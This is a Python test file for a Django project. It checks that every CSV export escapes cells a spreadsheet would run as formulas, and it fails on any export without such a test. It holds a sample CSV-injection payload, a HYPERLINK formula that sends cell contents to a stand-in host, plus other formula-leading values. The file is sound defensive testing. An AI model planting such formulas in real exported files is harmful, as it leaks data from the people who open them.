"""Issue 20, item 2: every CSV Kindred writes goes through one writer (`core.csv_export.csv_writer`),
and every export is tested with a cell a spreadsheet would run.

`test_every_csv_export_has_a_hostile_cell_test` walks the source: each module that writes CSV must
be listed in EXPORTS with the test that plants a formula in that export, so a new export without
one fails here; `test_nothing_writes_csv_another_way` fails on a plain `csv.writer` anywhere."""

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command

from kindred.frameworks.loading import DomainSpec, FrameworkSpec, StandardSpec, read_csv, write_csv
from kindred.frameworks.services import framework_load
from kindred.schools.models import School

ROOT = Path(__file__).resolve().parents[2]
KINDRED = ROOT / "kindred"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA = ("=", "+", "-", "@", "|", "%", "\t", "\r")

# Each module that writes CSV -> the test that plants a formula in what it writes.
EXPORTS = {
    "kindred/accounts/views_audit.py": "tests/core/test_csv_export.py::test_a_hostile_full_name_is_not_a_formula_in_the_audit_export",
    "kindred/evidence/views.py": "tests/core/test_csv_export.py::test_an_imported_school_name_is_not_a_formula_in_the_dashboard_csv",
    "kindred/evidence/exports.py": "tests/core/test_csv_export.py::test_the_evidence_exports_escape_too",
    "kindred/schools/importing/report.py": "tests/importing/test_command.py::test_a_formula_in_a_bad_cell_is_written_to_the_errors_file_as_text",
    "kindred/voice/views.py": "tests/core/test_every_csv_export.py::test_a_schools_answer_is_not_a_formula_in_the_consultation_results",
    "kindred/brokering/exports.py": "tests/core/test_every_csv_export.py::test_broker_and_form_networks_exports_write_an_imported_id_as_text",
    "kindred/frameworks/loading.py": "tests/core/test_every_csv_export.py::test_a_framework_export_writes_a_formula_as_text_and_reads_it_back",
    "kindred/impact/exports.py": "tests/impact/test_csv_formula.py::test_a_network_named_like_a_formula_is_text_in_both_impact_exports",
    "kindred/impact/management/commands/impact.py": "tests/impact/test_csv_formula.py::test_a_network_named_like_a_formula_is_text_in_both_impact_exports",
    "kindred/schools/generation.py": "tests/core/test_every_csv_export.py::test_the_generators_truth_file_has_no_formula",
    "kindred/api/routers_schools.py": "tests/api/test_reads.py::test_the_schools_csv_streams_every_school_with_the_same_category_rule",
}


def _sources():
    for path in sorted(KINDRED.rglob("*.py")):
        if "migrations" not in path.parts:
            yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text(encoding="utf-8"))


def _calls(tree, name: str) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            called = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if called == name:
                return True
    return False


def test_nothing_writes_csv_another_way():
    offenders = []
    for path, tree in _sources():
        if path == "kindred/core/csv_export.py":
            continue
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path}:{node.lineno}")
            if (
                isinstance(node, ast.ImportFrom)
                and node.module in ("csv", "defusedcsv", "defusedcsv.csv")
                and any(alias.name in ("writer", "DictWriter", "csv") for alias in node.names)
            ):
                offenders.append(f"{path}:{node.lineno}")
    assert offenders == [], "write CSV with kindred.core.csv_export.csv_writer"


def test_every_csv_export_has_a_hostile_cell_test():
    writers = {path for path, tree in _sources() if _calls(tree, "csv_writer")} - {
        "kindred/core/csv_export.py"
    }
    assert writers == set(EXPORTS), "list each new export in EXPORTS with a test that plants a formula in it"
    for test in EXPORTS.values():
        file, name = test.split("::")
        assert f"def {name}(" in (ROOT / file).read_text(encoding="utf-8"), test


def _no_live_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert cells, "the export is empty"
    live = [cell for cell in cells if cell.startswith(FORMULA) and not _number(cell)]
    assert live == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_a_schools_answer_is_not_a_formula_in_the_consultation_results(
    client, system_leader, region_a, school_x, school_leader_x
):
    from kindred.voice.services import response_save, theme_tag
    from tests.voice.conftest import open_consultation

    consultation = open_consultation(system_leader, region_a)
    questions = list(consultation.questions.all())
    saved = response_save(
        consultation=consultation,
        school=school_x,
        by=school_leader_x,
        answers={questions[0].pk: "Monday", questions[1].pk: "4", questions[2].pk: HOSTILE},
    )
    theme_tag(answer=saved.answers.get(question=questions[2]), name="@SUM(1,1)", by=system_leader)
    client.force_login(system_leader)
    body = client.get(f"/voice/{consultation.pk}/results.csv").content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert ["What should we change?", "answer", "'" + HOSTILE, "'@SUM(1,1)", ""] in rows
    _no_live_formula(rows)


@pytest.mark.django_db
def test_broker_and_form_networks_exports_write_an_imported_id_as_text(tmp_path):
    """`kindred broker --export` and `kindred form-networks --export` on a generated country whose
    registry ids came in (from an import) starting with a formula character."""
    from django.db.models import Value
    from django.db.models.functions import Concat

    from kindred.accounts.generation import country_generate

    country_generate(n_schools=200, seed=7, years=[2021, 2022, 2023], n_teachers=400)
    School.objects.update(registry_id=Concat(Value("-"), "registry_id", Value("+cmd")))
    call_command("families", "--no-fit", verbosity=0)
    call_command("performance", verbosity=0)
    partners, networks = tmp_path / "partners.csv", tmp_path / "networks.csv"
    call_command("broker", "--allow-unmet", "--export", str(partners), verbosity=0)
    call_command(
        "form-networks", "--min-size", "6", "--max-size", "10", "--export", str(networks), verbosity=0
    )
    for path, column in ((partners, "need_school_id"), (networks, "school_id")):
        rows = list(csv.reader(path.open(newline="")))
        header = rows[0]
        ids = [row[header.index(column)] for row in rows[1:]]
        assert ids and all(i.startswith("'-") and i.endswith("+cmd") for i in ids)
        _no_live_formula(rows)
        assert json.loads(path.with_suffix(".geojson").read_text())["features"]


@pytest.mark.django_db
def test_a_framework_export_writes_a_formula_as_text_and_reads_it_back(client, site_admin):
    spec = FrameworkSpec(
        code="hostile",
        name="Hostile",
        scale=["Low", "High"],
        domains=[
            DomainSpec(
                "D1",
                "+Leadership",
                [StandardSpec("S1", HOSTILE, descriptors=["-weak", "@strong"], behaviours=["=1+1"])],
            )
        ],
    )
    version, _created = framework_load(spec=spec, by=None)
    client.force_login(site_admin)
    body = client.get(f"/self-evaluation/frameworks/{version.pk}/", {"format": "csv"}).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][:4] == ["D1", "'+Leadership", "S1", "'" + HOSTILE]
    _no_live_formula(rows)
    again = read_csv(body, code="hostile", name="Hostile")
    assert again.digest() == spec.digest()  # an edited export loads back as it was
    assert write_csv(again) == body


def test_the_generators_truth_file_has_no_formula(tmp_path):
    from kindred.engine.generate import generate_country
    from kindred.schools.generation import write_truth_csv

    path = tmp_path / "truth.csv"
    assert write_truth_csv(generate_country(n_schools=60, seed=3), path) > 0
    rows = list(csv.reader(path.open(newline="")))
    assert rows[0] == ["school_id", "measure", "true_effect"]
    assert any(row[2].startswith("-") for row in rows[1:])  # negative effects stay numbers
    _no_live_formula(rows)
